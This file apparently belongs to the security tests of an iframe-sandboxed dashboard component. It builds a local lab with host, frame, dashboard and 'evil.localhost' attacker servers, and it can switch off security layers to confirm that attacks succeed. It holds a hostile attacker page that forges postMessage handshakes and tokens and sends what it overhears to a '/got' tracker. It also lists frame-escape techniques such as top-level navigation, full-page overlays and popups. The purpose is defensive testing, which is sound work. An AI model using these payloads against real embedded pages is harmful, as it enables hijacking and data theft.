/**
 * A host page, a frame page, a dashboard and an attacker, each on an origin of its own, in a real browser. Layers of the real
 * code can be taken out one by one, so that an attack is first seen to work.
 */
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import type { Plugin } from 'esbuild';
import type { Browser, Page } from 'puppeteer-core';
import { framePage, framePolicy } from '../../packages/bff/src/routes/assets/frame.ts';
import { openBrowser } from '../e2e/browser.ts';
import { eventually } from '../e2e/eventually.ts';
import { bundle, framePageScript } from './bundle.ts';

/** A layer, as the lines of source that are taken out and what stands there instead. */
const layers = {
  'the wrapper’s policy': [/wrapper-frame\.ts$/, 'page.head.append(policy);', ''],
  'the grant of flags': [/dashboard-frame[\\/]sandbox\.ts$/, 'GRANTABLE.has(flag)', 'true'],
  'the grant of features': [/dashboard-frame[\\/]sandbox\.ts$/, 'host.has(name) &&', ''],
  'who may give a port': [/frame[\\/]start\.ts$/, 'event.source === window.parent', 'true'],
  'who may speak': [/frame[\\/]dashboard-page\.ts$/, 'event.source !== this.#frame?.contentWindow || !event.source ||', 'false ||'],
  'whose origin speaks': [/frame[\\/]dashboard-page\.ts$/, '|| event.origin !== this.#pageOrigin', ''],
  'whom messages are for': [/frame[\\/]dashboard-page\.ts$/, "this.#pageOrigin === 'null' ? '*' : this.#origin", "'*'"],
  'the address of the frame': [/frame[\\/]dashboard-page\.ts$/, 'if (this.#origin !== this.#allowed)', 'if (false)'],
} as const;
export type Layer = keyof typeof layers | 'the frame page’s policy';

const without = (off: readonly Layer[]): Plugin => ({
  name: 'without',
  setup: (bundle) => {
    for (const layer of off) {
      const row = layer in layers ? layers[layer as keyof typeof layers] : undefined;
      if (!row) continue;
      bundle.onLoad({ filter: row[0] }, async ({ path }) => {
        let contents = await readFile(path, 'utf8');
        for (const one of off) {
          const [filter, line, instead] = layers[one as keyof typeof layers] ?? [/^$/, '', ''];
          if (!filter.test(path)) continue;
          if (!contents.includes(line)) throw new Error(`${path} has no such line: ${line}`);
          contents = contents.replace(line, instead);
        }
        return { contents, loader: 'ts' };
      });
    }
  },
});

const hostPage = `<!doctype html><title>Host</title><style>mcp-dashboard-frame { width: 600px; height: 300px }</style><script type="module" src="/host.js"></script><body></body>`;
const hostScript = `
import './packages/components/src/dashboard-frame/define.ts';
window.told = [];
for (const type of ['mcp-dashboard-open', 'mcp-dashboard-blocked', 'mcp-dashboard-message']) addEventListener(type, ({ detail }) => told.push({ type, ...detail }));
window.show = (properties) => document.body.append(Object.assign(document.createElement('mcp-dashboard-frame'), { dashboardId: 'd', ...properties }));
`;
/** Runs where it must never run: in the host's origin, inside a dashboard's frame. */
const victim = `<!doctype html><title>Victim</title><script>try { top.pwned = origin } catch {}</script>`;

/** What the dashboard's author can do. */
const ways = `<!doctype html><title>Dashboard</title><body><p>Dashboard</p><script>
const query = new URLSearchParams(location.search), to = query.get('to'), name = query.get('do');
const element = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
const ways = {
  location: () => { location.href = to },
  replace: () => location.replace(to),
  refresh: () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + to })),
  form: () => element('form', { action: to }).submit(),
  link: () => element('a', { href: to }).click(),
  'open in itself': () => open(to, '_self'),
  'top.location': () => { top.location = to },
  'link to the top': () => element('a', { href: to, target: '_top' }).click(),
  'form to the top': () => element('form', { action: to, target: '_top' }).submit(),
  'open at the top': () => open(to, '_top'),
  popup: () => element('button', { textContent: 'Open', id: 'press', onclick: () => open(to) }),
  'full screen': () => element('button', { textContent: 'Big', id: 'press', onclick: () => document.body.requestFullscreen().then(() => parent.postMessage('full', '*'), () => parent.postMessage('refused', '*')) }),
  cover: () => { document.body.style.cssText = 'position:fixed;inset:-999px;background:red;z-index:2147483647;margin:0' },
  nest: () => element('iframe', { src: to }),
};
if (name) setTimeout(() => { try { ways[name]() } catch (error) { parent.postMessage({ failed: String(error) }, '*') } }, 50);
parent.postMessage({ type: 'mcp-dashboard-ready' }, '*');
addEventListener('message', ({ data }) => parent.postMessage({ heard: data }, '*'));
</script></body>`;

/** A page of the attacker's: says and takes whatever it can, and tells the tracker what it got. */
const evil = `<!doctype html><title>Evil</title><script>
const tell = (what) => { new Image().src = '/got?' + encodeURIComponent(what) };
addEventListener('message', ({ data }) => tell('heard ' + JSON.stringify(data)));
tell('origin ' + origin);
const under = (w) => { const found = [w]; for (let n = 0; n < w.length; n++) found.push(...under(w[n])); return found };
const above = (w) => (w === top ? [] : [w.parent, ...above(w.parent)]);
const all = () => new Set([...under(top), ...above(self)]);
setInterval(() => {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => tell('port ' + data.type);
  port1.postMessage({ type: 'html', html: '<p>x', remote: [] });
  for (const w of all()) if (w !== self) {
    for (const message of [{ type: 'mcp-frame-hello' }, { type: 'mcp-dashboard-ready' }, { type: 'mcp-dashboard-token', token: 'forged' }, { forged: true }]) w.postMessage(message, '*');
    try { w.postMessage({ type: 'mcp-frame-init' }, '*', w === top ? [] : [port2]) } catch {}
  }
}, 5);
</script>`;

/** Time for what must not happen to happen; what does happen is waited for. */
export const chance = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 300));

export interface Lab {
  /** Addresses without a slash at the end. */
  host: string;
  dashboard: string;
  /** The frame page. */
  sandbox: string;
  evil: string;
  /** What the attacker's pages told. */
  got: string[];
  /** A fresh host page with these layers out. */
  open(off?: readonly Layer[]): Promise<Scene>;
  close(): Promise<void>;
}

export interface Scene {
  page: Page;
  /** Puts a dashboard into the host page, through the frame page or alone. */
  show(path: string, options?: { way?: 'service' | 'alone'; [property: string]: unknown }): Promise<void>;
  told(): Promise<{ type: string; reason?: string; origin?: string; message?: unknown }[]>;
  /** Waits until something was told. */
  tells(what: string, condition: (told: { type: string; reason?: string; origin?: string; message?: unknown }) => boolean): Promise<void>;
  pwned(): Promise<unknown>;
  close(): Promise<void>;
}

export async function openLab(): Promise<Lab> {
  const servers: Server[] = [];
  const serve = async (name: string, listener: RequestListener): Promise<string> => {
    const server = createServer(listener);
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return `http://${name}:${(server.address() as AddressInfo).port}`;
  };
  const html = (text: string): RequestListener => (_request, response) => void response.setHeader('Content-Type', 'text/html; charset=utf-8').end(text);
  const script = (response: Parameters<RequestListener>[1], text: string) => void response.setHeader('Content-Type', 'text/javascript').setHeader('Access-Control-Allow-Origin', '*').end(text);
  const scripts = new Map<string, Promise<string>>();
  const scriptOf = (entry: string, off: readonly Layer[]): Promise<string> => {
    const key = JSON.stringify([entry, off]);
    if (!scripts.has(key)) scripts.set(key, bundle(entry, [without(off)]));
    return scripts.get(key)!;
  };
  let off: readonly Layer[] = [];
  const got: string[] = [];

  const attacker = await serve('evil.localhost', (request, response) => {
    const { pathname, search } = new URL(request.url!, 'http://evil');
    if (pathname === '/got') got.push(decodeURIComponent(search.slice(1)));
    html(pathname === '/got' ? '' : evil)(request, response);
  });
  const host = await serve('127.0.0.1', async (request, response) => {
    if (request.url === '/host.js') return script(response, await scriptOf(hostScript, off));
    html(request.url?.startsWith('/victim') ? victim : hostPage)(request, response);
  });
  const dashboard = await serve('dash.localhost', (request, response) => {
    const { pathname, searchParams } = new URL(request.url!, 'http://dash');
    if (pathname === '/redirect') return void response.writeHead(302, { location: searchParams.get('to')! }).end();
    html(ways)(request, response);
  });
  const sandbox = await serve('localhost', async (request, response) => {
    if (request.url === '/frame.js') return script(response, await scriptOf(framePageScript, off));
    const embed = new URL(request.url!, 'http://frame').searchParams.get('embed')!;
    if (!off.includes('the frame page’s policy')) response.setHeader('Content-Security-Policy', framePolicy({ script: `http://${request.headers.host}/frame.js`, embed: embed === dashboard ? embed : undefined, remote: [], ancestors: [host] }));
    html(framePage('/frame.js'))(request, response);
  });

  const browser: Browser = await openBrowser();
  return {
    host,
    dashboard,
    sandbox: `${sandbox}/frame`,
    evil: attacker,
    got,
    async open(layersOff = []) {
      off = layersOff;
      got.length = 0;
      const context = await browser.createBrowserContext();
      const page = await context.newPage();
      await page.goto(`${host}/`);
      await page.waitForFunction(() => 'show' in window);
      const scene: Scene = {
        page,
        async show(path, { way = 'service', ...more } = {}) {
          const frame = way === 'service' ? { frame: { url: `${sandbox}/frame`, ownOrigin: true, allowedOrigins: [dashboard] } } : { allowedOrigins: [dashboard] };
          await page.evaluate((properties) => (window as unknown as { show(properties: object): void }).show(properties), { src: `${dashboard}${path}`, ...frame, ...more });
        },
        told: () => page.evaluate(() => (window as unknown as { told: never[] }).told).catch(() => []),
        tells: (what, condition) => eventually(what, async () => (await scene.told()).some(condition), { last: async () => JSON.stringify({ told: await scene.told(), got, frames: page.frames().map((one) => one.url()) }) }).then(() => undefined),
        pwned: () => page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned),
        close: () => context.close(),
      };
      return scene;
    },
    async close() {
      await browser.close();
      for (const server of servers) {
        server.closeAllConnections();
        server.close();
      }
    },
  };
}
